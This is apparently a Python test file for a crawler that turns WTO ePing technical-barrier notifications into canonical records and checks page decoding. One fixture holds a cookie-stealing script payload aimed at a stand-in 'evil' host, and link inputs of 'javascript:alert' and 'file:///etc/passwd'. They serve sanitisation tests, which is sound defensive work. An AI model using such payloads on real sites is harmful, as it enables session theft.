"""ePing item -> canonical record, and getAll page decoding (pure functions)."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from tbt_alert.errors import CrawlError, RecordError
from tbt_alert.sources.eping import http_links, map_item, page_items
from tbt_alert.text.scan import html_to_text

FIXTURES = Path(__file__).parent / "fixtures" / "eping"

# Field values as ePing gives them, and the public monitor excerpt of G/TBT/N/ARE/703.
ITEM: dict[str, Any] = {
    "id": 113917,
    "area": "TBT",
    "notificationType": "Regular notification",
    "documentSymbol": " G/TBT/N/ARE/703, G/TBT/N/BHR/780, G/TBT/N/KWT/764",
    "notifyingMember": "Bahrain, Kingdom of",
    "distributionDate": "2026-06-02T00:00:00+00:00",
    "commentDeadlineDate": "2026-08-01T00:00:00+00:00",
    "proposedAdoptionDate": None,
    "proposedAdoptionDateText": "To be determined",
    "proposedEntryIntoForceDate": "2027-01-01T00:00:00+00:00",
    "title": '<p style="margin:2px">GCC Technical regulation for &quot;Vehicles - eCall&quot;</p>',
    "titlePlain": 'GCC Technical regulation for "Vehicles - eCall"',
    "description": "<p>The <b>eCall</b> system</p>",
    "productsFreeText": "Road vehicles in general (ICS code(s): 43.020)",
    "hsCodes": [{"id": 44595, "code": "870321", "name": "870321 - Vehicles"}],
    "hsCodeText": "870321 - Vehicles; 8708",
    "icsCodeText": "43.020; 43.040",
    "objectives": [
        {"id": 1, "name": "Protection of human health or safety (TBT)"},
        {"id": 5, "name": "Quality requirements (TBT)"},
    ],
    "keywords": [{"id": 2, "name": "Vehicles"}],
    "notifiedDocumentLink": "https://members.wto.org/crnattachments/2026/TBT/ARE/26_02883_00_e.pdf\n"
    "https://example.org/b.pdf, http://example.org/c.pdf",
    "dolLink": "G/TBTN26/ARE703",
    "linkToNotification": "https://docs.wto.org/imrd/directdoc.asp?DDFDocuments/T/G/TBTN26/ARE703.docx",
    "isOpenForComments": True,
}


NO_TEXT = {"description": None, "descriptionPlain": None, "productsFreeText": None}


def item(**changes: Any) -> dict[str, Any]:
    return {**ITEM, **changes}


def test_maps_every_field() -> None:
    record = map_item(ITEM)
    assert record.symbol == "G/TBT/N/ARE/703"
    assert record.joint_symbols == ["G/TBT/N/ARE/703", "G/TBT/N/BHR/780", "G/TBT/N/KWT/764"]
    assert record.member == "Bahrain, Kingdom of"
    assert record.title == 'GCC Technical regulation for "Vehicles - eCall"'
    assert record.description == "The eCall system"
    assert (record.distribution_date, record.comment_deadline) == ("2026-06-02", "2026-08-01")
    assert record.hs_codes == ["870321", "8708"]
    assert record.ics_codes == ["43.020", "43.040"]
    expected_objective = "Protection of human health or safety (TBT); Quality requirements (TBT)"
    assert record.objective == expected_objective
    assert record.proposed_adoption == "To be determined"
    assert record.proposed_entry_into_force == "2027-01-01"
    assert record.notification_type == "Regular notification"
    assert record.document_url == ITEM["linkToNotification"]
    assert record.source_id == "113917"
    assert record.source == "eping"
    assert record.language == "en"
    assert record.extra["dol_link"] == "G/TBTN26/ARE703"
    assert record.extra["is_open_for_comments"] is True
    assert record.extra["keywords"] == ["Vehicles"]


def test_single_symbol_has_no_joint_list_and_null_deadline_stays_null() -> None:
    record = map_item(item(documentSymbol=" G/TBT/N/EU/1097", commentDeadlineDate=None))
    assert record.symbol == "G/TBT/N/EU/1097"
    assert record.joint_symbols == []
    assert record.comment_deadline is None


def test_plain_fields_win_over_html() -> None:
    record = map_item(item(title="<p>HTML title</p>", titlePlain="Plain title"))
    assert record.title == "Plain title"


def test_html_is_stripped_when_plain_is_missing() -> None:
    html = '<p style="margin:2px">Toys &amp; <i>games</i></p><p>second&nbsp;line</p>'
    record = map_item(item(title=html, titlePlain=None))
    assert record.title == "Toys & games second line"


def test_hostile_html_loses_script_and_style_content() -> None:
    html = (
        "<p>Lighters<script>document.location='http://evil/'+document.cookie</script>"
        "<style>p{display:none}</style><!-- hidden --> safety</p>"
    )
    record = map_item(item(title=html, titlePlain="", descriptionPlain=None, description=html))
    for text in (record.title, record.description):
        assert text == "Lighters safety"


def test_products_ics_codes_are_read_from_free_text() -> None:
    text = "Toys (ICS code(s): 97.200.50, 13.120)"
    record = map_item(item(icsCodeText=None, productsFreeText=text, productsFreeTextPlain=None))
    assert record.ics_codes == ["97.200.50", "13.120"]
    assert record.products_text == text


def test_multi_url_links_split_and_non_http_dropped() -> None:
    links = (
        "javascript:alert(1)\nhttps://a.example/x.pdf,http://b.example/y.docx  file:///etc/passwd"
    )
    record = map_item(item(notifiedDocumentLink=links, linkToNotification="javascript:alert(2)"))
    assert record.document_links == ["https://a.example/x.pdf", "http://b.example/y.docx"]
    assert record.document_url is None


def test_chinese_text_is_marked_zh() -> None:
    assert map_item(item(titlePlain="玩具安全")).language == "zh"


@pytest.mark.parametrize(
    "changes",
    [
        {"documentSymbol": None},
        {"documentSymbol": " , "},
        {"notifyingMember": "  "},
        {"title": None, "titlePlain": None, **NO_TEXT},
        {"title": "<script>x</script>", "titlePlain": None, **NO_TEXT},
        {"documentSymbol": "not a symbol"},
        {"title": {"drift": 1}, "titlePlain": None},
    ],
)
def test_item_without_symbol_member_or_title_is_rejected(changes: dict[str, Any]) -> None:
    with pytest.raises(RecordError):
        map_item(item(**changes))


def test_missing_title_falls_back_to_the_description_as_in_the_canonical_record() -> None:
    record = map_item(
        item(title=None, titlePlain=None, description="<p>Kenya would like to inform</p>")
    )
    assert record.title == "Kenya would like to inform"


def test_symbols_are_normalised_and_deduplicated() -> None:
    record = map_item(
        item(documentSymbol=" G/TBT/N/ken/1419 , G/TBT/N/KEN/1419,G/TBT/N/BDI/350/add.1")
    )
    assert record.joint_symbols == ["G/TBT/N/KEN/1419", "G/TBT/N/BDI/350/Add.1"]


def test_hs_codes_in_the_products_text_are_read() -> None:
    text = "- Other fruit (HS code(s): 081340); Fruits (ICS code(s): 67.080)"
    record = map_item(item(hsCodes=[], hsCodeText=None, productsFreeText=text))
    assert record.hs_codes == ["081340"]
    assert record.ics_codes == ["43.020", "43.040", "67.080"]


def test_non_object_item_is_rejected() -> None:
    with pytest.raises(RecordError):
        map_item(["not", "an", "item"])  # type: ignore[arg-type]


def test_page_items_reads_a_page() -> None:
    items, total = page_items((FIXTURES / "page_1.json").read_bytes())
    assert (len(items), total) == (10, 15)


@pytest.mark.parametrize(
    ("body", "message"),
    [
        ((FIXTURES / "maintenance.html").read_bytes(), "not JSON"),
        ((FIXTURES / "truncated.json").read_bytes(), "not JSON"),
        (b"", "not JSON"),
        (b"\xff\xfe\x00garbage", "not JSON"),
        (b"[]", "schema drift"),
        (json.dumps({"results": [], "total": 0}).encode(), "no 'items' list"),
        (json.dumps({"items": [], "totalCount": "12"}).encode(), "totalCount"),
        (json.dumps({"items": [None], "totalCount": 1}).encode(), r"items\[0\]"),
    ],
)
def test_page_items_refuses_garbage(body: bytes, message: str) -> None:
    with pytest.raises(CrawlError, match=message):
        page_items(body)


@given(st.text())
def test_html_to_text_never_keeps_markup_or_raises(text: str) -> None:
    # Generated text that opens markup changes what follows it, in browsers as in lxml: "<?" and
    # "<!" start a bogus comment up to the next ">" and "<A" a tag named "a<script", so "SECRET()"
    # is then shown as text, not run as a script. Such text is left out; "<" before anything else
    # is literal text in HTML5 and stays in.
    assume(not re.search(r"<[!?/A-Za-z]", text))
    assume("SECRET" not in text.upper())  # the generated text may spell the marker itself
    out = html_to_text(f"<p>{text}<script>SECRET()</script></p>")
    assert out is None or ("SECRET" not in out and "  " not in out and out == out.strip())


@given(st.text())
def test_http_links_only_returns_http_urls(text: str) -> None:
    for link in http_links(text):
        assert link.lower().startswith(("http://", "https://"))


_VALUES = st.one_of(
    st.none(),
    st.text(max_size=40),
    st.integers(),
    st.booleans(),
    st.lists(st.dictionaries(st.sampled_from(["id", "code", "name"]), st.text(max_size=10))),
)


@given(st.dictionaries(st.sampled_from(sorted(ITEM)), _VALUES))
def test_map_item_raises_only_record_error_on_drifted_items(changes: dict[str, Any]) -> None:
    try:
        record = map_item(item(**changes))
    except RecordError:
        return
    assert record.symbol and record.member and record.title
    assert all(link.startswith(("http://", "https://")) for link in record.document_links)


def test_an_addendum_carries_the_events_its_description_states():
    item = {
        **ITEM,
        "documentSymbol": "G/TBT/N/KEN/1307/Add.1",
        "descriptionPlain": "Kenya informs Members that KS 2975 was adopted on 9 June 2023.",
    }
    events = map_item(item).extra["events"]
    assert [(e["kind"], e["date"]) for e in events] == [("adopted", "2023-06-09")]
    assert "events" not in map_item(ITEM).extra  # a regular notification has none
